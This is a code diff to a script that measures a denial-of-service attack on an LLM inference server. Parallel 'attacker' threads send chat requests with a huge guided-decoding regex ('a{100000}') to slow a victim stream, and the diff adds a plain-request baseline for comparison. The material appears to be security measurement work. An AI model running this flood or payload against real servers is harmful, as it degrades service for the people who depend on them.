@@ -7,6 +7,8 @@ the finish reason / error code of a 200). Run it from the checkout to measure (`
 scripts/guided_mask_attack.py`); the model is the provisioned default unless --model says otherwise.
 
     python scripts/guided_mask_attack.py [--regex 'a{100000}'] [--attackers 8] [--runs 3] [--model NAME]
+
+`--regex ''` sends unconstrained requests of the same length instead: what 8 more sequences cost the victim anyway.
 """
 
 from __future__ import annotations
@@ -51,7 +53,9 @@ def victim_stream_s(base_url: str, max_tokens: int) -> float:
 
 def attacker(base_url: str, regex: str, stop: threading.Event, outcomes: collections.Counter) -> None:
     """Keep one attack request in flight until `stop`; count how each ended."""
-    body = {"messages": PROMPT, "max_tokens": 256, "temperature": 1.0, "guided_regex": regex}
+    body = {"messages": PROMPT, "max_tokens": 256, "temperature": 1.0, "ignore_eos": not regex}
+    if regex:  # else plain requests of the same length: the baseline cost of 8 more sequences in the batch
+        body["guided_regex"] = regex
     with httpx.Client(timeout=600) as client:
         while not stop.is_set():
             response = client.post(base_url + "/v1/chat/completions", json=body)
